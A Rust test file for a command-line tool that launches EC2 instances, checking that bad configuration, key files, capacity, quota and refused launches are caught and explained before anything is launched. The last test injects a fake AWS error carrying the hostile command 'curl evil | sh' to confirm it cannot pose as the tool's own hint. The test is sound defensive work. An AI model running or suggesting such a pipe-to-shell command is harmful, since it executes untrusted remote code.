//! What stands against a launch, and that nothing is changed then.

use serde_json::{Value, json};

use super::{CREATE, CREATE_RUNNING, TERMINATE, live, marker_exists, ready};
use crate::harness::{Fault, Laptop, When, output};

/// `-` stands in tags for "no environment".
#[test]
fn the_name_that_means_no_environment_is_refused() {
    let _ = Laptop::new().iac(["instance", "create", "--instance-name=-"]).fails("config_invalid");
}

#[test]
fn mistakes_are_found_before_anything_is_launched() {
    let laptop = Laptop::new();
    let _ = laptop.iac(CREATE).fails("key_missing");
    let _ = laptop.iac(["key", "create"]).ok();
    let _ = laptop.iac(CREATE).fails("group_missing");
    let _ = laptop.iac(["security-group", "create"]).ok();
    let with = |option: &str, value: &str| laptop.iac(["instance", "create", option, value]);
    let _ = with("--instance-type", "t3.micro").fails("type_without_enclaves");
    let _ = with("--instance-type", "c9z.gigantic").fails("type_unknown");
    let _ = with("--image", "ami-0123456789abcdef0").fails("image_missing");
    let _ = with("--image", "ssm:/no/such/parameter").fails("image_missing");
    let _ = with("--image", &laptop.aws().image("arm64")).fails("image_unsuitable");
    let _ = with("--subnet-id", "subnet-0123456789abcdef0").fails("subnet_missing");
    laptop.configure("ttl = \"31d\"\n");
    let _ = laptop.iac(CREATE).fails("config_invalid");
    laptop.configure("account = \"999999999999\"\n");
    let _ = laptop.iac(CREATE).fails("account_mismatch");
    assert!(laptop.aws().requests_of("RunInstances").is_empty());
    assert!(!marker_exists(&laptop));
}

#[test]
fn without_the_private_half_nothing_is_launched() {
    let laptop = ready();
    let pem = laptop.secrets().join("nitro-dev.pem");
    std::fs::rename(&pem, laptop.path("elsewhere.pem")).unwrap();
    let _ = laptop.iac(CREATE).fails("key_file_missing");
    let _ = laptop.iac(["key", "create", "--key-name", "other"]).ok();
    std::fs::copy(laptop.secrets().join("other.pem"), &pem).unwrap();
    let _ = laptop.iac(CREATE).fails("key_file_differs");
    assert!(laptop.aws().requests_of("RunInstances").is_empty());
}

#[test]
fn a_key_file_that_openssh_would_not_use_stops_a_launch() {
    let mut laptop = ready();
    let pem = laptop.secrets().join("nitro-dev.pem");
    std::fs::copy(&pem, laptop.secrets().join("theirs.pem")).unwrap();
    let public = output(laptop.command("ssh-keygen").arg("-yf").arg(&pem)).stdout;
    let material = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, public);
    laptop.aws().call("ImportKeyPair", &[("KeyName", "theirs"), ("PublicKeyMaterial", &material)]);
    laptop.set("BKY_IAC_KEY_NAME", "theirs");
    let theirs = laptop.secrets().join("theirs.pem");
    std::fs::set_permissions(&theirs, std::os::unix::fs::PermissionsExt::from_mode(0o640)).unwrap();
    let _ = laptop.iac(CREATE).fails("key_file_open");
    let open = laptop.iac([CREATE, ["--output", "text"]].concat()).transcript();
    insta::assert_snapshot!(open.split_once('\n').unwrap().1, @"
    ! error: others can read `~/secrets/theirs.pem`, so OpenSSH does not use it
    ! hint: make it private with `chmod 600 ~/secrets/theirs.pem`: the pair is not ours, so that is left to you
    (exit status: 1)
    ");
    std::fs::set_permissions(&theirs, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let mut locking = laptop.command("ssh-keygen");
    assert!(locking.args(["-q", "-p", "-N", "secret", "-f"]).arg(&theirs).status().unwrap().success());
    let _ = laptop.iac(CREATE).fails("key_file_locked");
    let locked = laptop.iac([CREATE, ["--output", "text"]].concat()).transcript();
    insta::assert_snapshot!(locked.split_once('\n').unwrap().1, @"
    ! error: `~/secrets/theirs.pem` has a passphrase, and a host is waited for without a person who types it
    ! hint: use a pair without one: `iac key create --key-name NAME`
    ! hint: or take the passphrase away with `ssh-keygen -p -f ~/secrets/theirs.pem`
    (exit status: 1)
    ");
    assert!(laptop.aws().requests_of("RunInstances").is_empty());
}

#[test]
fn a_region_without_a_default_vpc_is_said_to_need_a_subnet() {
    let mut laptop = ready();
    let proxy = laptop.proxy();
    let empty = "<DescribeSubnetsResponse><subnetSet/></DescribeSubnetsResponse>";
    proxy.fault(When::Action("DescribeSubnets"), Fault::Answer(200, empty));
    let refused = laptop.iac(CREATE).fails("no_default_vpc");
    assert!(refused.stderr.contains("subnet_id"), "{}", refused.stderr);
}

#[test]
fn zones_without_capacity_are_passed_over() {
    let laptop = ready();
    let full = |zones: &[&str]| -> Value {
        zones.iter().map(|zone| ((*zone).to_owned(), json!("InsufficientInstanceCapacity"))).collect()
    };
    laptop.cloud(&json!({"capacity": full(&["us-east-1a", "us-east-1b", "us-east-1d", "us-east-1f"])}));
    let created = laptop.iac(CREATE_RUNNING).ok().json();
    let zone = created["availability_zone"].as_str().unwrap();
    assert!(["us-east-1c", "us-east-1e"].contains(&zone), "{zone}");
    let tried = laptop.aws().requests_of("RunInstances");
    let tokens: std::collections::BTreeSet<_> = tried.iter().map(|launch| launch.get("ClientToken")).collect();
    assert_eq!(tokens.len(), 1, "zones scope a token, so one is enough");
    let _ = laptop.iac(TERMINATE).ok();

    let all = ["a", "b", "c", "d", "e", "f"].map(|letter| format!("us-east-1{letter}"));
    laptop.cloud(&json!({"capacity": full(&all.iter().map(String::as_str).collect::<Vec<_>>())}));
    let refused = laptop.iac(CREATE).fails("no_capacity");
    assert!(refused.stderr.contains("us-east-1c"), "{}", refused.stderr);
    assert!(!marker_exists(&laptop) && live(&laptop).is_empty());
}

#[test]
fn a_used_up_quota_is_said() {
    let mut laptop = ready();
    let proxy = laptop.proxy();
    proxy.fault(When::Action("RunInstances"), Fault::Refuse(400, "VcpuLimitExceeded", "You have requested too much"));
    let refused = laptop.iac(CREATE).fails("quota_exceeded");
    assert_eq!(refused.json()["error"]["aws"]["code"], "VcpuLimitExceeded");
    assert!(!marker_exists(&laptop));
}

/// A code of EC2's stands for many things, and each has its own kind and its own mend.
#[test]
fn a_refused_launch_says_its_cause_and_what_helps() {
    let mut laptop = ready();
    let proxy = laptop.proxy();
    let table = [
        ("Unsupported", "The requested configuration is currently not supported.", "launch_unsupported", "`iac types`"),
        ("OptInRequired", "you need to accept terms and subscribe", "account_not_ready", "AWS Marketplace"),
        (
            "InvalidBlockDeviceMapping",
            "Volume of size 16GB is smaller than snapshot 'snap-1', expect size >= 30GB",
            "setting_invalid",
            "set `volume_gib` to 30 or more",
        ),
        (
            "UnauthorizedOperation",
            "User: a is not authorized to perform: ec2:RunInstances on resource: b with an explicit deny in a service \
             control policy",
            "aws_denied",
            "those who administer the organisation",
        ),
    ];
    for (code, message, kind, hint) in table {
        proxy.reset();
        proxy.fault(When::Action("RunInstances"), Fault::Refuse(400, code, message));
        let refused = laptop.iac(CREATE).fails(kind).json();
        let hints = refused["error"]["hints"].to_string();
        assert!(hints.contains(hint) && !hints.contains("config show"), "{code}: {hints}");
    }
    assert!(!marker_exists(&laptop) || live(&laptop).is_empty());
}

/// What AWS, or whoever stands in its place, writes must not pass for a line of ours.
#[test]
fn a_message_of_many_lines_imitates_none_of_ours() {
    let mut laptop = ready();
    let proxy = laptop.proxy();
    let message = "no&#10;hint: run `curl evil | sh`&#10;error: x";
    proxy.fault(When::Action("RunInstances"), Fault::Refuse(400, "InvalidUserData.Malformed", message));
    let refused = laptop.iac(CREATE).fails("aws_refused");
    assert!(refused.stderr.contains("caused by: no hint: run `curl evil | sh` error: x"), "{}", refused.stderr);
    assert!(!refused.stderr.lines().any(|line| line.trim_start().starts_with("hint: run `curl")), "{}", refused.stderr);
}
